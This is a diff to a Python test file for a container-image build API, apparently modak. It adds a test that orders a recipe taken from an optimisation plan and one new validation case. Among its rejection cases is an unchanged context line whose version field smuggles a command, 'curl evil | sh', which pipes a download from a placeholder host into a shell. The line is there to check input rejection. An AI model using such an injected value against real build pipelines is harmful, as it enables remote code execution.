@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import shutil
 from collections.abc import Iterator
 from datetime import timedelta
@@ -14,6 +15,7 @@ from modak.builds.worker import builder_lock
 from tests.api.site import Site
 from tests.conftest import until
 
+EXAMPLE = Path(__file__).parents[2] / "examples/mnist-hlrs-glow.json"
 RECIPE = {"framework": "pytorch", "version": "2.13.0", "variant": "pip"}
 
 
@@ -44,6 +46,7 @@ def test_orders_are_administrators(site: Site, tmp_path: Path, scope: str | None
         ({"recipe": RECIPE, "job": {}}, "recipe"),
         ({"recipe": {**RECIPE, "version": "2.13.0; curl evil | sh"}}, "version"),
         ({"recipe": RECIPE, "definition": "Bootstrap: docker"}, "definition"),
+        ({"recipe": {**RECIPE, "content": "Bootstrap: docker"}}, "content"),
         ({"recipe": RECIPE, "runtime": "podman-hpc"}, "runtime"),
         ({"recipe": RECIPE, "also": ["tar"]}, "also"),
         ({"recipe": RECIPE, "offline": True}, "offline"),
@@ -71,6 +74,19 @@ def test_an_order_is_answered_at_once_and_shared(site: Site, tmp_path: Path) -> 
         assert site.call("DELETE", place, site.keys["admin"]).status_code == 409
     trail = [line["action"] for line in site.call("GET", "/audit", site.keys["admin"]).json()["items"]]
     assert trail[:3] == ["cancel build", "build image", "build image"]
+
+
+@pytest.mark.parametrize("runtime", ["singularity", "charliecloud"])
+def test_a_recipe_is_ordered_as_its_plan_shows_it(site: Site, tmp_path: Path, runtime: str) -> None:
+    """With its file and content; it is the same build as that of the request."""
+    request = json.loads(EXAMPLE.read_text())
+    request["job"]["target"] = {"container_runtime": runtime}
+    shown = site.web.post("/optimise", json=request).json()["job"]["plan"]["recipe"]
+    (tmp_path / "images").mkdir()
+    with builder_lock(tmp_path / "images"):  # this process is the builder, and builds nothing
+        told = order(site, {"recipe": shown, "runtime": runtime})
+        assert told.status_code == 202, told.text
+        assert told.json()["id"] == order(site, {"job": request["job"]}).json()["id"]
 
 
 def test_a_job_that_needs_no_build_is_not_found(site: Site, document: dict[str, Any]) -> None:
